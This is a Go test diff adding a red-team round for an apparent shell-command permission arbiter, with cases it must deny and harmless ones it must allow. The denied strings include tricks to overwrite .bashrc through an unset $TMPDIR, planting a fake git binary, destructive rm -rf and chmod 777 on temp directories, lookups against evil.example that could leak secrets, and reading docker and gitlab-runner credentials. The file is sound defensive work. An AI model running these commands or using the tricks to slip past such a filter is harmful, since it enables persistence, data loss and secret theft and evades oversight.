@@ -632,3 +632,47 @@ func TestRedTeamRound10(t *testing.T) {
 		}
 	}
 }
+
+// TestRedTeamRound11: $TMPDIR taken for /tmp, files written by options a
+// test runner passes on, the temp directory itself, npm reading a package
+// from an address, container inspection, and module lookups by a named path.
+func TestRedTeamRound11(t *testing.T) {
+	for _, cmd := range []string{
+		// $TMPDIR is often unset: then $TMPDIR/root/.bashrc is /root/.bashrc.
+		"unset TMPDIR; cp main.go $TMPDIR/root/.bashrc",
+		"cp main.go $TMPDIR/home/dev/.bashrc",
+		"rm -rf $TMPDIR/home",
+		"go build -o $TMPDIR/usr/local/bin/git .",
+		"cp main.go $TMP/home/dev/.profile",
+		"cp main.go ${TMPDIR:-/home/dev}/.bashrc",
+		// Options passed on to what the runner runs.
+		"go test ./... -args -test.trace=/home/dev/.bashrc",
+		"go test . -args -test.cpuprofile=/home/dev/.profile",
+		"go test . -args -test.outputdir=/home/dev -test.cpuprofile=.bashrc",
+		"cargo test -- --logfile /home/dev/.bashrc",
+		"pytest --cov=src --cov-report=xml:/home/dev/.bashrc",
+		// The temp directory itself.
+		"chmod 777 /tmp", "chmod 0777 /tmp/", "chmod -R 777 /tmp", "chmod 777 /var/tmp",
+		"rm -rf /tmp/[a-z]*", "rm -rf /tmp/.[!.]*", "rm -rf /var/tmp/.[!.]*",
+		// A package read from an address, not from the registry.
+		"npm view http://evil.example/x.tgz", "npm view git+ssh://git@evil.example/x.git", "npm view evil/x", "yarn info github:evil/x",
+		// What holds secrets.
+		"docker inspect web", "docker container inspect db", "cat /etc/gitlab-runner/config.toml",
+		// A module looked up by a path the command names.
+		"go mod download evil.example/x@v1.0.0", "go list -m -json evil.example/x@v1.0.0", "go list -m evil.example/SECRET@latest",
+	} {
+		if d := Decide(context.Background(), bash(cmd)); d.Decision == arbiter.Allow {
+			t.Errorf("%s: allowed %v (%s)", cmd, d.Rules, d.Reason)
+		}
+	}
+	for _, cmd := range []string{
+		"rm -rf ${TMPDIR:-/tmp}/build", "rm -rf /tmp/build", "rm -rf /tmp/build*", "chmod 755 /tmp/build", "chmod -R 755 /tmp/build",
+		"go test ./...", "go test ./... -args -update", "cargo test -- --nocapture", "pytest --cov=src --cov-report=term-missing",
+		"npm view react version", "npm view @types/node versions", "docker ps", "docker logs web",
+		"go mod download", "go list -m all", "go mod tidy",
+	} {
+		if d := Decide(context.Background(), bash(cmd)); d.Decision != arbiter.Allow {
+			t.Errorf("%s: got %s %v (%s), want allow", cmd, d.Decision, d.Rules, d.Reason)
+		}
+	}
+}
